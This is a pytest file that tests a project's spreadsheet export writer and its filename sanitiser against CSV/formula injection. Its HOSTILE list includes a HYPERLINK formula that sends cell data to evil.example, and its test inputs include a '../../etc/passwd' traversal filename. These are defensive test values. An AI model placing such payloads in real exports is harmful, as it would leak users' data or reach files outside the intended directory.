"""Spreadsheet exports: the shared writer (``kukkaro.core.exports``) never lets a cell become a formula, and every
CSV or XLSX the system hands out goes through it. The second half feeds each export the values of issue 16
(formula-like provider names, invoice numbers and trip ids) and reads the file back as a spreadsheet would."""

import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest

#: What a spreadsheet takes for the start of a formula (OWASP), with full-width forms; written out here rather
#: than taken from the code under test.
STARTS = "=+-@\t\r＝＋－＠"
NUMBER = re.compile(r"-?\d+([.,]\d+)?")
HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Lasku")',
    "+1+1",
    "@SUM(A1)",
    "-2+3",
    "\t=1",
    "\r=1",
    "＝1+1",
    "  =2+2",
]


def _formula_like(cell: str) -> bool:
    """Would a spreadsheet evaluate this CSV cell? A plain number is a number, not a formula."""
    if not cell or NUMBER.fullmatch(cell):
        return False
    return cell[0] in STARTS or (bool(cell.lstrip()) and cell.lstrip()[0] in STARTS)


def _cells(content: bytes, *, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def _assert_safe_csv(content: bytes, *, delimiter: str) -> list[list[str]]:
    rows = _cells(content, delimiter=delimiter)
    dangerous = [cell for row in rows for cell in row if _formula_like(cell)]
    assert dangerous == [], dangerous
    assert content.count(b"\r\n") >= len(rows)  # CRLF line ends
    return rows


def _assert_attachment(response, pattern: str) -> None:
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; "), disposition
    assert re.fullmatch(rf'attachment; filename="{pattern}"', disposition), disposition


# --- the writer ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*HOSTILE, "-", "@", " \t=x", "\u3000=1", "＠x", "－1", "＋1"])
def test_csv_bytes__formula_like_text__is_prefixed_with_a_quote_and_quoted(text):
    from kukkaro.core import exports

    content = exports.csv_bytes(["name"], [[text]], bom=False)
    line = content.decode().split("\r\n", 1)[1]
    assert line == '"' + ("'" + text).replace('"', '""') + '"\r\n'
    assert _cells(content, delimiter=";")[1] == ["'" + text]


def test_csv_bytes__normal_values_and_numbers__are_written_as_they_are():
    from kukkaro.core import exports

    row = [
        "Päiväpaikka Oy",
        "INV-1001",
        "a;b",
        'sanoi "hei"',
        "1-2",
        -1250,
        0,
        Decimal("-12.50"),
        Decimal(-1) / 100,
        Decimal(0) * -1,
        dt.date(2026, 3, 2),
        None,
        "",
    ]
    content = exports.csv_bytes(["a"] * len(row), [row])
    assert content.startswith("\ufeff".encode())
    assert content.decode("utf-8-sig").split("\r\n")[1] == (
        'Päiväpaikka Oy;INV-1001;"a;b";"sanoi ""hei""";1-2;-1250;0;-12,50;-0,01;0,00;2026-03-02;;'
    )
    dotted = exports.csv_bytes(
        ["x", "y"], [[Decimal("1234.5"), "T-1"]], delimiter=",", decimal_separator=".", bom=False
    )
    assert dotted == b"x,y\r\n1234.50,T-1\r\n"


def test_csv_bytes__an_amount_with_more_than_two_decimals__is_refused_not_rounded():
    from kukkaro.core import exports

    with pytest.raises(ValueError, match="two decimals"):
        exports.csv_bytes(["a"], [[Decimal("0.125")]])


def test_xlsx_bytes__text_is_never_a_formula_and_numbers_stay_numbers():
    from kukkaro.core import exports

    content = exports.xlsx_bytes(
        ["name", "cents", "euros", "day"],
        [[text, -1250, Decimal("-12.50"), dt.date(2026, 3, 2)] for text in HOSTILE]
        + [["Päiväpaikka Oy\x07", 5, Decimal("0.10"), None]],
        sheet="Kustannukset",
    )
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and all(b"<f>" not in archive.read(n) and b"<f " not in archive.read(n) for n in sheets)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet.title == "Kustannukset"
    rows = list(sheet.iter_rows(min_row=2))
    for text, (name, cents, euros, day) in zip(HOSTILE, rows, strict=False):
        assert (name.value, name.data_type, name.quotePrefix) == (text, "s", True)
        assert (cents.value, cents.data_type) == (-1250, "n")
        assert (euros.value, euros.data_type, euros.number_format) == (-12.5, "n", "0.00")
        assert day.value.date() == dt.date(2026, 3, 2)
    last = rows[-1]
    assert (last[0].value, last[0].quotePrefix) == ("Päiväpaikka Oy", False)  # a control character XLSX cannot hold


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("PB01202603-01", "PB01202603-01.csv"),
        ('=evil";x\r\n', "evil-x.csv"),
        ("../../etc/passwd", "etc-passwd.csv"),
        ("matkat-äö", "matkat-äö.csv"),
        ("", "export.csv"),
    ],
)
def test_safe_filename__keeps_letters_digits_and_dashes_only(name, expected):
    from kukkaro.core import exports

    assert exports.safe_filename(name, extension="csv") == expected
